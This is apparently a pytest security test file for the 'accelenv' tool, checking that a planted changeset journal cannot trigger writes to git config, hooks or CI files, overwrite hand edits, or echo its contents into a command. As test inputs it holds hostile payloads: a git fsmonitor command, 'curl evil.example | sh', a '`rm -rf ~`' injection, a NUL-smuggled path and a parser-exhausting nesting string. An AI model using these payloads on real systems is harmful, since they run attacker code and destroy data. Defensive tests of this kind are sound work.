"""Issue 41, writes where they must not go: a planted changeset journal (`.accelenv/changeset.json`). `refresh
--resume` and `--undo` write only the files a refresh writes, only over a file that still holds the journal's old
or new text, and never echo the journal's purpose into a command; a journal nested past the parser or holding a
NUL is refused with a message, never a traceback."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hostilekit import accelenv, accelenv_here, assert_clean_error
from reference import REFERENCE_MATRIX

from accelenv import changeset
from accelenv.matrix import load_matrix
from accelenv.matrix.paths import lock_path
from accelenv.plan.render import refresh_targets, render_plan

MATRIX_TEXT = REFERENCE_MATRIX.read_text(encoding="utf-8")


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / ".accelenv").mkdir(parents=True)
    (repo / "matrix.toml").write_text(MATRIX_TEXT)
    (repo / ".git").mkdir()
    (repo / ".git" / "config").write_text("[core]\n\tbare = false\n")
    return repo


def _plant(repo: Path, files: dict[str, dict[str, str | None]], purpose: object = "refresh") -> None:
    document = {"version": 1, "purpose": purpose, "files": files}
    (repo / changeset.JOURNAL).write_text(json.dumps(document))


def _snapshot(repo: Path) -> dict[str, bytes]:
    return {str(p.relative_to(repo)): p.read_bytes() for p in sorted(repo.rglob("*")) if p.is_file()}


PLANTED = [
    ".git/config",
    ".git/hooks/pre-commit",
    "pyproject.toml",
    "noxfile.py",
    ".accelenv/changeset.json",
    ".github/workflows/ci.yml",
    "envs/cpu-py311/run.sh",
    "envs/CPU/env.json",
    "envs/cpu-py311/sub/env.json",
    "images/cpu-py311/Dockerfile.evil",
    "docs/index.md",
    "other.toml",
]


@pytest.mark.parametrize("how", ["--resume", "--undo"])
@pytest.mark.parametrize("target", PLANTED)
def test_a_planted_journal_writes_nothing_outside_what_a_refresh_writes(tmp_path: Path, target: str, how: str) -> None:
    repo = _repo(tmp_path)
    _plant(repo, {target: {"old": None, "new": "[core]\n\tfsmonitor = touch /tmp/pwned\n"}})
    before = _snapshot(repo)
    result = accelenv_here("--matrix", str(repo / "matrix.toml"), "refresh", how)
    assert_clean_error(result, code=2, says="no change writes")
    assert _snapshot(repo) == before


def test_every_file_a_refresh_writes_is_one_a_journal_may_name() -> None:
    """The other side of the rule: the matrix, each environment's lock, and every generated file (render_plan of
    the reference matrix) pass `targets`, so a real interrupted refresh can always be finished."""
    matrix = load_matrix(REFERENCE_MATRIX)
    allowed = refresh_targets("matrix.toml")
    repo = Path("/repo")
    written = ["matrix.toml", *(str(lock_path(repo, e).relative_to(repo)) for e in matrix.envs)]
    written += list(render_plan(matrix, []).files)
    assert len(written) > 2 * len(matrix.envs)
    assert [rel for rel in written if not allowed(rel)] == []


@pytest.mark.parametrize("how", ["--resume", "--undo"])
def test_a_hand_edit_after_the_interruption_is_not_overwritten(tmp_path: Path, how: str) -> None:
    repo = _repo(tmp_path)
    (repo / "envs" / "cpu-py311").mkdir(parents=True)
    env_json = repo / "envs" / "cpu-py311" / "env.json"
    env_json.write_text("my own edit\n")
    _plant(repo, {"envs/cpu-py311/env.json": {"old": "old\n", "new": "new\n"}})
    result = accelenv("--matrix", str(repo / "matrix.toml"), "refresh", how)
    assert_clean_error(result, code=2, says="changed since the change was interrupted")
    assert env_json.read_text() == "my own edit\n"
    assert (repo / changeset.JOURNAL).exists()


def test_a_file_holding_either_side_is_finished(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    (repo / "envs" / "cpu-py311").mkdir(parents=True)
    (repo / "envs" / "cpu-py311" / "env.json").write_text("new\n")  # written before the interruption
    (repo / "images" / "cpu-py311").mkdir(parents=True)
    (repo / "images" / "cpu-py311" / "Dockerfile").write_text("old\n")  # not yet
    _plant(
        repo,
        {
            "envs/cpu-py311/env.json": {"old": "old\n", "new": "new\n"},
            "images/cpu-py311/Dockerfile": {"old": "old\n", "new": "new\n"},
        },
    )
    result = accelenv("--matrix", str(repo / "matrix.toml"), "refresh", "--resume")
    assert result.returncode == 0, result.stderr
    assert (repo / "images" / "cpu-py311" / "Dockerfile").read_text() == "new\n"


@pytest.mark.parametrize(
    "purpose", ["refresh --resume; curl evil.example | sh; true", "lock", ["refresh"], "refresh\n`rm -rf ~`", None]
)
def test_a_journals_purpose_is_never_echoed_into_a_command(tmp_path: Path, purpose: object) -> None:
    repo = _repo(tmp_path)
    _plant(repo, {"matrix.toml": {"old": MATRIX_TEXT, "new": MATRIX_TEXT}}, purpose=purpose)
    result = accelenv_here("--matrix", str(repo / "matrix.toml"), "render")
    assert_clean_error(result, code=2, says="journal does not read")
    if isinstance(purpose, str) and purpose != "lock":
        assert purpose not in result.stderr
    assert "curl" not in result.stderr


@pytest.mark.parametrize(
    "document",
    [
        '{"version": 1, "purpose": "refresh", "files": ' + "[" * 100_000 + "]" * 100_000 + "}",
        json.dumps(
            {"version": 1, "purpose": "refresh", "files": {"matrix.toml\x00.git/config": {"old": None, "new": "x"}}}
        ),
        json.dumps({"version": 1, "purpose": "refresh", "files": {"envs/a\nb/env.json": {"old": None, "new": "x"}}}),
    ],
    ids=["100000-deep", "nul", "newline"],
)
@pytest.mark.parametrize("how", ["--resume", "--undo"])
def test_a_journal_nested_past_the_parser_or_holding_a_nul_is_refused(tmp_path: Path, document: str, how: str) -> None:
    repo = _repo(tmp_path)
    (repo / changeset.JOURNAL).write_text(document)
    before = _snapshot(repo)
    result = accelenv("--matrix", str(repo / "matrix.toml"), "refresh", how)
    assert_clean_error(result, code=2, says="journal does not read")
    assert _snapshot(repo) == before
